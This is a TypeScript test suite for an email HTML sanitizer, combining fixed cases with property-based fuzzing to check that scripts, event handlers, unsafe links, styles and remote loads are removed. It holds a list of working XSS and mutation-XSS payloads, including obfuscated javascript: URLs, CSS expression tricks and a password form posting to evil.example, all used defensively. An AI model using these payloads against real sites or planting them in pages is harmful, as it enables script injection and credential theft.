import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { allowedTags } from './allowed-markup.ts';
import { sanitizeBody } from './sanitize-body.ts';

const picture = 'att_0123456789abcdefghjk';
const clean = (html: string) => sanitizeBody(html).html;

const attributeRules: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:|mailto:|tel:)/,
  src: /^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/i,
  'data-remote-src': /^https?:\/\//,
  'data-attachment': /^att_[0-9a-z]{20}$/,
  style: /^[a-z-]+:[a-z0-9#%.,()/ -]+(?:;[a-z-]+:[a-z0-9#%.,()/ -]+)*$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  role: /^presentation$/,
};
const plainAttributes =
  /^(?:alt|title|dir|lang|width|height|align|valign|border|cellpadding|cellspacing|bgcolor|colspan|rowspan|span|start|type)$/;

/** Reads the output as strictly as it is meant to be written and names everything in it that should not be. */
const offences = (html: string): string[] => {
  const found: string[] = [];
  const text = html.replace(
    /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)(?: \/)?>/g,
    (_, _slash, tag: string, attributes: string) => {
      if (!allowedTags.some((allowed) => allowed === tag)) found.push(`<${tag}>`);
      for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
        const rule = attributeRules[name];
        if (rule ? !rule.test(value) : !plainAttributes.test(name))
          found.push(`${tag} ${name}="${value}"`);
        if (/url\(|expression|position|z-index/i.test(name === 'style' ? value : ''))
          found.push(value);
      }
      return '';
    },
  );
  if (text.includes('<')) found.push(text);
  return found;
};

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/tickets" alt="own origin">',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" id=a name=b class=c>x</a>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action=https://evil.example><input name=password><button>ok</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  '<p style="background:url(https://evil.example/x);position:fixed;top:0;z-index:9">x</p>',
  '<p style="color:re\\64;width:expression(alert(1))">x</p>',
  '<p style="background-color:red;background-image:image-set(\'https://evil.example\')">x</p>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<img srcset="https://evil.example/a 1x" background=https://evil.example/b lowsrc=c>',
  '<video poster=https://evil.example/a><source src=b></video><audio src=c></audio>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:text/html;base64,AAAA">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template><plaintext><script>alert(1)',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<<script>script>alert(1)<</script>/script>',
];

describe('sanitizeBody', () => {
  it.each(attacks)('leaves nothing that runs or loads in %j', (html) => {
    expect(offences(clean(html))).toEqual([]);
  });

  it('leaves nothing that runs or loads in the payloads of public collections, where they are present', () => {
    const folder = join(import.meta.dirname, '../../../../shared/corpora/xss');
    const lines = existsSync(folder)
      ? readdirSync(folder).flatMap((file) =>
          readFileSync(join(folder, file), 'utf8').trim().split('\n'),
        )
      : [];
    const payloads = [...attacks, ...lines.map((line) => String(JSON.parse(line).html))];
    expect(payloads.filter((html) => offences(clean(html)).length > 0)).toEqual([]);
  });

  it('writes nothing but its own grammar for any mixture of markup', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&lt;',
        '&#0;',
        '=',
        '/',
        ' ',
      ),
      fc.constantFrom(...attacks),
      fc.constantFrom(
        'svg',
        'style',
        'title',
        'img',
        'a ',
        'href',
        'onerror',
        'p',
        'table',
        'textarea',
        'style="',
        'color:',
      ),
      fc.string({ maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const html = clean(pieces.join(''));
        expect(offences(html)).toEqual([]);
        expect(clean(html)).toBe(html);
      }),
      { numRuns: 300 },
    );
  });

  it('keeps the writing of an ordinary mail', () => {
    const html =
      '<h2>Hi</h2><p style="color:#333;text-align:center">a <b>b</b> &amp; <i>c</i></p><ul><li>d</li></ul>';
    expect(clean(html)).toBe(html);
  });

  it('keeps words of elements it takes away, and drops those nobody was meant to read', () => {
    expect(clean('<title>t</title><style>p{}</style><fieldset>kept</fieldset>')).toBe('kept');
    expect(clean('<div style="display: none">preview</div>shown')).toBe('shown');
  });

  it('opens links apart and drops those that lead elsewhere than to the web, mail or phone', () => {
    const rest = 'target="_blank" rel="noopener noreferrer nofollow"';
    expect(clean('<a href="https://a.example/?x=1&y=2">a</a>')).toBe(
      `<a href="https://a.example/?x=1&amp;y=2" ${rest}>a</a>`,
    );
    expect(clean('<a href="mailto:a@b.example">a</a>')).toBe(
      `<a href="mailto:a@b.example" ${rest}>a</a>`,
    );
    expect(clean('<a href="ftp://a.example">a</a>')).toBe('<a>a</a>');
  });

  it('holds remote pictures back and says so', () => {
    const { html, remoteContent } = sanitizeBody('<img src="//a.example/b.png" width="20">');
    expect(html).toBe('<img alt="" width="20" data-remote-src="https://a.example/b.png" />');
    expect(remoteContent).toBe(true);
    expect(sanitizeBody('data-remote-src="x"').remoteContent).toBe(false);
  });

  it('turns pictures of the same mail into attachments and names those shown', () => {
    const cid = (contentId: string) => (contentId === 'logo@mail' ? picture : undefined);
    const { html, shownAttachments } = sanitizeBody(
      '<img src="cid:logo%40mail" alt="Logo"><img src="cid:other">',
      { cid },
    );
    expect(html).toBe(`<img alt="Logo" data-attachment="${picture}" />`);
    expect([...shownAttachments]).toEqual([picture]);
  });

  it('believes an attachment named in the markup only if the sender may name it', () => {
    const written = `<img alt="" data-attachment="${picture}" />`;
    expect(clean(written)).toBe('');
    expect(sanitizeBody(written, { attachmentIds: new Set([picture]) }).html).toBe(written);
  });

  it('carries small embedded pictures and no large ones', () => {
    const embedded = (bytes: number) =>
      `<img alt="" src="data:image/png;base64,${'A'.repeat(bytes)}" />`;
    expect(clean(embedded(400))).toBe(embedded(400));
    expect(clean(embedded(70_000))).toBe('');
  });

  it('flattens what is nested deeper than a browser would show', () => {
    const deep = '<div>'.repeat(20_000) + 'x';
    expect(clean(deep).length).toBeLessThan(5_000);
  });
});
